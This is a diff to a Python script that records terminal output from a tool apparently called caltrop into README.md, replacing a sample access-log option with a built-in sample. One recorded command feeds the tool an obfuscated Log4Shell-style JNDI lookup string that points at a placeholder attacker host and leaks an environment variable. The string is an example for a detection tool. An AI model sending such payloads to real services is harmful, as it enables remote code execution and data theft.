@@ -1,31 +1,29 @@
 #!/usr/bin/env python3
 """Puts real output into README.md: the recorded terminal between its marks, and the table of bench/results.md.
 
-    tools/record-readme.py [--caltrop build/caltrop] [--sample build/share/caltrop/sample-access.log]
+    tools/record-readme.py [--caltrop build/caltrop]
 
-Each recorded command runs as shown, in the folder of the sample, at 120 columns, without colour.
+Each recorded command runs as shown, at 120 columns, without colour.
 """
 import argparse
 import os
 import pathlib
 import re
 import shlex
-import shutil
 import subprocess
 import sys
 import tempfile
 
 ROOT = pathlib.Path(__file__).resolve().parent.parent
 COMMANDS = [
-    "caltrop detect access.log",
+    "caltrop up --sample",
     "caltrop explain '${${lower:j}ndi:${lower:l}dap://a.evil.example/${env:USER}}'",
 ]
 
 
-def record(caltrop, sample):
+def record(caltrop):
     out = []
     with tempfile.TemporaryDirectory() as folder:
-        shutil.copy(sample, pathlib.Path(folder) / "access.log")
         for command in COMMANDS:
             words = shlex.split(command)
             environment = {"PATH": os.environ["PATH"], "COLUMNS": "120", "LC_ALL": "C.UTF-8", "NO_COLOR": "1", "HOME": folder}
@@ -46,12 +44,11 @@ def replace(text, mark, body):
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--caltrop", default="build/caltrop")
-    parser.add_argument("--sample", default="build/share/caltrop/sample-access.log")
     args = parser.parse_args()
     readme = ROOT / "README.md"
     text = readme.read_text()
     if os.access(args.caltrop, os.X_OK):
-        text = replace(text, "terminal", record(os.path.abspath(args.caltrop), args.sample))
+        text = replace(text, "terminal", record(os.path.abspath(args.caltrop)))
     results = ROOT / "bench/results.md"
     if results.exists():
         text = replace(text, "bench", results.read_text())
